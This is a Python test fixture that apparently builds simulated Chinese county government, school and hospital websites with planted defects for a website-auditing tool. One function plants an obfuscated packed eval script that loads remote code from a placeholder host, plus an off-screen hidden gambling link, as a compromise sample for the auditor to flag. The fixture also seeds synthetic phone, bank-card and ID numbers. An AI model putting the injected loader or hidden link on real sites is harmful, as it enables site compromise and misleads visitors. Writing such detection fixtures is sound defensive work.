"""Two neglected hosts, a school and a hospital."""

from __future__ import annotations

from collections.abc import Sequence

from tests.second_district import files, people, policies
from tests.second_district.book import Answer, Entry
from tests.second_district.county import THREE, sub
from tests.second_district.site import Site
from tests.second_district.standard import Plan, fill_news, furnish, host_things, overview
from tests.second_district.wording import plain

NOTHING = "<html lang='zh'><head><title>提示信息</title></head><body><p>您访问的页面不存在，3秒后返回首页。</p></body></html>"


def science(site: Site) -> None:
    """县科技局: a host that answers 200 to everything, without search, channel, services, tags and half its footer."""
    furnish(site, Plan(news="科技动态", omit=frozenset({"services", "messages"}), guide_style="dl"))
    policies.default_policies(site, "澄科发", ("澄川县科普基地认定管理办法",), THREE)
    site.book.fallback["kjj"] = Answer(NOTHING.encode())
    site.plant("soft-404", site.home, anywhere=True)
    site.search_path = ""
    site.plant("search-broken", site.home)
    for element in ("police", "find-error", "site-map"):
        site.plant("footer-element-missing", site.home, element)
    site.no_footer = frozenset({"police", "find-error", "site-map"})
    del site.columns["map"]
    site.no_metas = frozenset({"SiteIDCode"})
    site.plant("meta-tag-missing", site.home, "SiteIDCode", anywhere=True)
    _channels(site)
    for at, name in enumerate(("专利服务", "技术市场", "科技奖励", "外国专家", "创新平台"), 1):
        column = site.column(
            f"kb{at}",
            name,
            "其他",
            in_nav=at < 3,
            parent=None if at < 3 else site.columns["xxgk"],
            inner="<div class='inner'>暂无内容</div>" if at % 2 else "<div class='inner'>本栏目建设中</div>",
        )
        if at >= 3:
            site.columns["xxgk"].links.append((name, column.path))
        site.plant("column-empty", site.at(column))
    site.plant("columns-not-updated", site.home)
    _no_date(site)
    site.home_html = '<img src="/img/banner.png"><form action="/mail.php"><input type="text" name="mail"><button>订阅</button></form>'
    site.book.browser += [
        Entry("kjj", "accessibility", site.home, rule, anywhere=True) for rule in ("image-alt", "label")
    ]
    site.book.verdicts["kjj"] = {"unqualified"}


def _channels(site: Site) -> None:
    site.nav_extra = [
        ("网上信访", site.book.url("friend", "/xinfang/")),
        ("纪检举报", site.book.url("friend", "/jubao/")),
    ]
    site.plant("interaction-channel-missing", site.home, why="只有信访和举报")
    site.plant("service-none", site.home)


def _no_date(site: Site) -> None:
    leaf = site.leaf(
        site.columns["xwdt"], "实验室里的年轻人", site.ago(10), dated="none", metas={"PubDate": None}
    )
    site.plant("publish-date-missing", leaf.url)
    site.plant("meta-tag-missing", leaf.url, "PubDate")
    wrong = site.leaf(
        site.columns["xwdt"],
        "科技特派员工作调度会召开",
        site.ago(5),
        plain(["会上宣布成立科技特派员工作领导小姐，明确成员职责。", *site.pen.paragraphs(4)]),
    )
    site.plant("wording-error", wrong.url, "领导小姐")


def willow(site: Site) -> None:
    """柳河街道: slow home, stale for a month, hidden script, search that finds nothing."""
    furnish(
        site,
        Plan(
            news="街道动态",
            news_days=(31, 40, 52, 77),
            notice_days=(190, 233),
            omit=frozenset({"services", "messages"}),
        ),
    )
    policies.default_policies(site, "澄柳街发", ("柳河街道小微权力清单管理办法",), THREE)
    sub(site, "gsgg", "公示公告", kind="通知公告")
    site.leaf(site.columns["gsgg"], site.pen.notice_title("柳河街道办事处"), site.ago(199))
    for key in ("xwdt", "tzgg", "gsgg"):
        site.plant("column-stale", site.at(key))
    site.alike("columns-not-updated", site.home, why="只有3个栏目超期")
    site.plant("home-stale", site.home)
    site.home_delay_s = 3.8
    site.alike("page-slow", site.home, why="主机以IP地址给出")
    site.book.searches["lhjd"]["/search"] = lambda _: Answer(
        site.skin.document(
            site, "站内搜索", [], [("首页", "/")], "<h1>搜索结果</h1><p>没有找到相关结果</p>"
        ).encode()
    )
    for check in ("search-broken", "interaction-channel-missing", "service-none"):
        site.plant(check, site.home)
    site.no_footer = frozenset({"badge", "contact", "site-id"})
    for element in sorted(site.no_footer):
        site.plant("footer-element-missing", site.home, element)
    site.no_metas = frozenset({"SiteDomain"})
    site.plant("meta-tag-missing", site.home, "SiteDomain", anywhere=True)
    _copies(site)
    _injected(site)
    site.book.browser += [
        Entry("lhjd", "accessibility", site.home, rule, anywhere=True)
        for rule in ("html-has-lang", "link-name")
    ]
    site.book.verdicts["lhjd"] = {"unqualified"}


def _copies(site: Site) -> None:
    news = site.columns["xwdt"]
    same = plain(site.pen.paragraphs(7))
    old, new = (
        site.leaf(news, title, site.ago(ago), same)
        for title, ago in (("夏季防溺水巡护不松懈", 160), ("夏季防溺水巡护不松懈", 35))
    )
    site.plant("publish-date-suspect", new.url, also=frozenset({old.url}))
    coming = max(site.book.today, site.book.as_of)
    ahead = site.leaf(
        site.columns["czxx"], "柳河街道办事处专项资金分配结果", coming.fromordinal(coming.toordinal() + 120)
    )
    site.plant("publish-date-suspect", ahead.url)
    reposted = plain(site.pen.paragraphs(6))
    shown = site.leaf(news, "楼道飞线清零行动", site.ago(44), reposted)
    again = site.leaf(sub(site, "wmsj", "文明实践", kind="其他"), "楼道飞线清零行动", site.ago(44), reposted)
    again.when, again.clock = shown.when, shown.clock
    site.alike("publish-date-suspect", shown.url, why="两个栏目同日同文")


def _injected(site: Site) -> None:
    book = site.book
    js = book.file("friend", "/j/tj.js", b"document.write('')")
    packed = "<script>eval(function(p,a,c,k,e,d){e=function(c){return c};if(!''.replace(/^/,String)){while(c--){d[c]=k[c]||c}k=[function(e){return d[e]}];e=function(){return'\\\\w+'};c=1};while(c--){if(k[c]){p=p.replace(new RegExp('\\\\b'+e(c)+'\\\\b','g'),k[c])}}return p}('0.1(\\'<2 3=\"4://5\"></2>\\')',6,6,'document|write|script|src|http|x'.split('|'),0,{}))</script>"
    bet = book.put(
        "friend",
        "/caipiao/",
        Answer("<html><head><title>彩票平台</title></head><body>时时彩 博彩 投注</body></html>".encode()),
    )
    site.home_html = f'<script src="{js}"></script>{packed}<a href="/jggk.shtml"></a><div style="position:absolute;left:-9999px"><a href="{bet}">时时彩投注平台</a></div>'
    site.plant("link-suspicious", site.home, bet)
    site.tolerate("link-suspicious", site.home, js, "外来脚本与加密代码，一处缺陷还是两处，约定未明")
    site.tolerate("link-suspicious", site.home, None, "同上")


# ---- institutions

SCHOOL = (
    ("jggk", "学校概况", ""), ("gzzd", "规章制度", "请假制度汇编"), ("ghjh", "规划计划", "学年工作计划"), ("zsxx", "招生信息", "招生计划和学籍资助办法"),
    ("jyjx", "教育教学", "课程设置与教学计划"), ("szdw", "师资队伍", "教职工招聘职称考核情况"), ("cwgk", "财务公开", "年度经费收支预决算"),
    ("pajy", "平安校园", "食堂住宿安全与应急预案"), ("zxzn", "信息公开咨询指南", "咨询电话与受理时间"),
)  # fmt: skip
HOSPITAL = (
    ("jggk", "医院概况", ""), ("kszn", "科室导航", "科室分布与楼层标识"), ("jyzn", "就医指南", "门诊住院服务流程与重点学科"), ("ggws", "公共卫生服务", "传染病与应急处置服务流程"),
    ("jkkt", "健康课堂", "冬季呼吸道疾病预防科普"), ("hflz", "行风建设", "廉洁从业九项准则落实"), ("tsjy", "投诉与咨询", "投诉受理方式和地点"),
)  # fmt: skip


def _institution(site: Site, sections: Sequence[tuple[str, str, str]], news: str, notices: str) -> None:
    for key, name, title in sections:
        if key == "jggk":
            column = overview(site, name)
            column.inner = f"<p>{site.unit.full}创建于1956年，属公办事业单位，占地八十亩，设有办公室、总务处等机构，职工三百余人。</p><p>地址：{site.unit.address}；联系电话：{site.unit.phone}；监督电话：0536-6670012。</p>"
            continue
        column = site.column(key, name, name)
        for ago in (30, 95):
            site.leaf(
                column,
                f"{title}（{site.ago(ago):%m月}更新）",
                site.ago(ago),
                plain(
                    [f"关于{title}，现公开如下。咨询监督电话：{site.unit.phone}。", *site.pen.paragraphs(4)]
                ),
            )
    for key, name in (("xwdt", news), ("tzgg", notices)):
        column = site.column(key, name, name)
        fill_news(site, column, (100, 121, 150))
    site.home_keys = ["xwdt", "tzgg"]
    host_things(site)
    site.alike("home-stale", site.home, why="公共企事业单位6个月内有更新即可")
    site.alike("column-stale", site.at("xwdt"), why="公共企事业单位不适用14天")


def school(site: Site) -> None:
    """县第一实验中学: fees and purchases nowhere, an empty column, telephone numbers, a false pdf."""
    _institution(site, SCHOOL, "校园新闻", "通知公告")
    for item in ("E5", "E8"):
        site.plant("institution-item-missing", site.home, item)
    for item, why in (("E7", "名为师资队伍"), ("E10", "名为平安校园"), ("E9", "名为财务公开")):
        site.alike("institution-item-missing", site.home, item, why)
    empty = site.column(
        "xsst", "学生社团", "学生社团", inner='<ul class="winstyle"></ul><div>共0条 0/0</div>'
    )
    site.plant("column-empty", site.at(empty))
    notices = site.columns["tzgg"]
    phones = "".join(
        f"<tr><td>{name}</td><td>{people.mobile(n)}</td></tr>"
        for n, name in enumerate(people.NAMES[:4], 2210)
    )
    leaf = site.leaf(
        notices,
        "家长委员会成员名单公示",
        site.ago(40),
        f"{plain(site.pen.paragraphs(2))}<table><tr><th>姓名</th><th>联系方式</th></tr>{phones}</table>",
    )
    site.plant("privacy-phone", leaf.url)
    fake = site.file("kebiao.pdf", "<html><body>请先登录后下载</body></html>".encode())
    page = site.leaf(
        notices,
        "新学期作息时间表",
        site.ago(57),
        plain(site.pen.paragraphs(3)),
        files=[("作息时间表.pdf", fake)],
    )
    site.plant("attachment-dead", page.url, site.book.url("school", fake))
    site.alike("columns-not-updated", site.home, why="公共企事业单位不适用")
    lines = plain(
        [
            f"值班室24小时电话：0536-6674009；招生热线400-6670-118；教务处工作手机尾号****；学籍号2026{people.mobile(12)}55；家长{people.NAMES[3]}电话{people.mobile(12)[:3]}****{people.mobile(12)[-4:]}。",
            *site.pen.paragraphs(3),
        ]
    )
    fine = site.leaf(notices, "寒假值班安排", site.ago(33), lines)
    site.alike("privacy-phone", fine.url, why="固定电话、热线、学籍号、掩码")
    site.alike("privacy-id-number", fine.url, why="学籍号")
    site.alike("privacy-bank-card", fine.url, why="学籍号")
    site.alike("privacy-phone", site.at("jggk"), why="单位公务电话")
    site.home_html = '<img src="/img/banner.png" alt=""><input type="text" aria-label="校友姓名" name="xy">'
    site.book.browser_alike += [
        Entry("zyxx", "accessibility", site.home, rule) for rule in ("image-alt", "label")
    ]
    for check in (
        "policy-uninterpreted",
        "disclosure-section-missing",
        "annual-report-missing",
        "service-none",
        "message-unanswered",
    ):
        site.alike(check, site.home, why="公共企事业单位不适用")
    site.book.verdicts["zyxx"] = {"qualified", "undetermined"}


def hospital(site: Site) -> None:
    """县人民医院: prices and tenders nowhere, dead links, card and identity numbers in files."""
    _institution(site, HOSPITAL, "医院动态", "公告栏")
    for item in ("H5", "H7"):
        site.plant("institution-item-missing", site.home, item)
    for item, why in (("H6", "名为健康课堂"), ("H2", "名为科室导航"), ("H9", "名为投诉与咨询")):
        site.alike("institution-item-missing", site.home, item, why)
    book, news = site.book, site.columns["xwdt"]
    gone = book.put("friend", "/expo/2019/", Answer(b"", 410))
    leaf = site.leaf(
        news,
        "重症医学科学术交流侧记",
        site.ago(60),
        f'{plain(site.pen.paragraphs(4))}<p><a href="{gone}">会议官网</a>　<a href="/contents/zjml/88.html">专家名录</a></p>',
    )
    site.plant("link-dead", leaf.url, gone)
    site.plant("link-dead", leaf.url, book.url("hospital", "/contents/zjml/88.html"))
    notices = site.columns["tzgg"]
    card = people.card("621700230000456781")
    sheet = site.file("jiangli.xlsx", files.xlsx([("姓名", "卡号"), (people.NAMES[9], card)]))
    page = site.leaf(
        notices,
        "优秀带教老师奖励名单",
        site.ago(45),
        plain(site.pen.paragraphs(3)),
        files=[("名单.xlsx", sheet)],
    )
    site.plant("privacy-bank-card", page.url, also=frozenset({book.url("hospital", sheet)}))
    record = site.file(
        "zhaopin.pdf",
        files.pdf(
            ["面试人员名单", f"姓名：{people.NAMES[10]}  身份证号：{people.id_number('19920811', 163)}"]
        ),
    )
    second = site.leaf(
        notices,
        "面试人员名单公布",
        site.ago(51),
        plain(site.pen.paragraphs(3)),
        files=[("面试人员名单.pdf", record)],
    )
    site.plant("privacy-id-number", second.url, also=frozenset({book.url("hospital", record)}))
    for check in ("policy-uninterpreted", "decision-catalogue-missing", "interaction-channel-missing"):
        site.alike(check, site.home, why="公共企事业单位不适用")
    site.book.verdicts["rmyy"] = {"qualified", "undetermined"}
